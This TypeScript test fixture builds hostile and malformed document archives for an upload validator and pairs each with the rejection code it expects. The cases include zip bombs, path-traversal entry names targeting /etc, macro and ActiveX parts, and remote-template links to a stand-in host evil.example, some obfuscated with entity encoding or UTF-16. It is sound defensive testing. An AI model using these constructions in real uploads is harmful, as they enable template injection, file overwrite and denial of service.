import type { BadFile } from './bad-files.ts';
import { buildDocx, buildZip, docxParts, odtParts, type ZipEntry } from './zip.ts';

const MEGABYTE = 1024 * 1024;
const bad = (title: string, name: string, answer: BadFile['answer'], content: () => Buffer): BadFile => ({ title, name, content, answer });
const docx = (title: string, answer: BadFile['answer'], ...more: ZipEntry[]): BadFile =>
  bad(title, 'a.docx', answer, () => buildZip([...docxParts(), ...more]));
const odt = (title: string, answer: BadFile['answer'], ...more: ZipEntry[]): BadFile => bad(title, 'a.odt', answer, () => buildZip([...odtParts(), ...more]));
const zeros = Buffer.alloc(20 * MEGABYTE);
const many = (count: number): ZipEntry[] => Array.from({ length: count }, (_each, index) => ({ name: `word/media/${index}.txt`, content: 'x' }));

/** Documents in a ZIP container, and ZIP archives that are not documents. */
export const BAD_ARCHIVES: readonly BadFile[] = [
  docx('a zip bomb: one entry that compresses a thousandfold', 'FILE_UNSAFE_ARCHIVE', { name: 'word/media/a.bin', content: zeros }),
  docx('a zip bomb of many entries', 'FILE_UNSAFE_ARCHIVE', ...Array.from({ length: 8 }, (_each, index) => ({ name: `word/${index}.bin`, content: zeros }))),
  docx('a zip bomb with a small declared size', 'FILE_UNSAFE_ARCHIVE', { name: 'word/media/a.bin', content: zeros, declaredSize: 1000 }),
  docx('an entry with a declared size larger than any disk', 'FILE_UNSAFE_ARCHIVE', { name: 'word/media/a.bin', content: 'x', declaredSize: 0xfffffff0 }),
  docx('a zip bomb with overlapping entries', 'FILE_UNSAFE_ARCHIVE', { name: 'word/a', content: 'x'.repeat(5000), overlaps: true }),
  docx('more entries than any document has', 'FILE_UNSAFE_ARCHIVE', ...many(3100)),
  docx('two entries of one name', 'FILE_UNSAFE_ARCHIVE', { name: 'word/document.xml', content: 'another' }),
  docx('an entry whose path leaves the directory', 'FILE_UNSAFE_ARCHIVE', { name: '../../etc/cron.d/x', content: 'x' }),
  docx('an entry with an absolute path', 'FILE_UNSAFE_ARCHIVE', { name: '/etc/passwd', content: 'x' }),
  docx('an entry with backslashes in its path', 'FILE_UNSAFE_ARCHIVE', { name: '..\\..\\x', content: 'x' }),
  docx('a document with macros', 'FILE_HAS_SCRIPT', { name: 'word/vbaProject.bin', content: 'macros' }),
  docx('a document with macros in another directory', 'FILE_HAS_SCRIPT', { name: 'custom/VBAProject.bin', content: 'macros' }),
  docx('a document with ActiveX controls', 'FILE_HAS_SCRIPT', { name: 'word/activeX/activeX1.bin', content: 'control' }),
  docx('a document with a remote template', 'FILE_HAS_SCRIPT', {
    name: 'word/_rels/settings.xml.rels',
    content: '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>',
  }),
  docx('a document with a remote template, referenced by another part', 'FILE_HAS_SCRIPT', {
    name: 'Word/_rels/other.XML.rels',
    content: "<Relationship TargetMode = 'E&#x0078;ternal' Target='https://evil.example/a.dotm' Type='http://x/attachedTemplate'/>",
  }),
  docx('a document with a remote object, in UTF-16', 'FILE_HAS_SCRIPT', {
    name: 'word/_rels/document.xml.rels',
    content: Buffer.from('\ufeff<Relationship Type="http://x/oleObject" Target="mhtml:https://evil.example/a" TargetMode="External"/>', 'utf16le'),
  }),
  bad('a document whose macros have another content type', 'a.docx', 'FILE_HAS_SCRIPT', () =>
    buildZip(docxParts('<Types><Override ContentType="application/vnd.ms-office.vba&#80;roject"/>wordprocessingml.document.main+xml</Types>')),
  ),
  bad('a document of the macro-enabled type', 'a.docx', 'FILE_HAS_SCRIPT', () =>
    buildZip(docxParts('<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>wordprocessingml.document.main+xml</Types>')),
  ),
  docx('a document with an encrypted entry', 'FILE_LOCKED', { name: 'word/media/a.txt', content: 'x', encrypted: true }),
  bad('a document with a password', 'a.docx', 'FILE_LOCKED', () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2000)])),
  odt('a document with LibreOffice macros', 'FILE_HAS_SCRIPT', { name: 'Basic/Standard/Module1.xml', content: 'macros' }),
  odt('a document with a LibreOffice script', 'FILE_HAS_SCRIPT', { name: 'Scripts/python/x.py', content: 'import os' }),
  odt('a zip bomb in an OpenDocument', 'FILE_UNSAFE_ARCHIVE', { name: 'Pictures/a.png', content: zeros }),
  bad('an OpenDocument with a password', 'a.odt', 'FILE_LOCKED', () => {
    const [type, , content] = odtParts();
    return buildZip([type, { name: 'META-INF/manifest.xml', content: '<manifest:encryption-data/>' }, content].filter((part) => part !== undefined));
  }),
  bad('a spreadsheet named as a text document', 'a.odt', 'FILE_TYPE_NOT_ALLOWED', () => buildZip(odtParts('spreadsheet'))),
  bad('a document of another type than its name', 'a.odt', 'FILE_TYPE_NOT_ALLOWED', () => buildDocx()),
  bad('a plain archive', 'a.docx', 'FILE_TYPE_NOT_ALLOWED', () => buildZip([{ name: 'a.txt', content: 'x' }])),
  bad('a plain archive under its own name', 'a.zip', 'FILE_TYPE_NOT_ALLOWED', () => buildZip([{ name: 'a.txt', content: 'x' }])),
  bad('a document named as a JAR archive', 'a.jar', 'FILE_TYPE_NOT_ALLOWED', () => buildDocx()),
  bad('a Java program', 'a.docx', 'FILE_TYPE_NOT_ALLOWED', () => buildZip([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: X' }])),
  bad('a truncated archive', 'a.docx', 'FILE_DAMAGED', () => buildDocx().subarray(0, 200)),
  bad('an archive that declares more entries than it has', 'a.docx', 'FILE_DAMAGED', () => buildZip(docxParts(), { entryCount: 50 })),
];
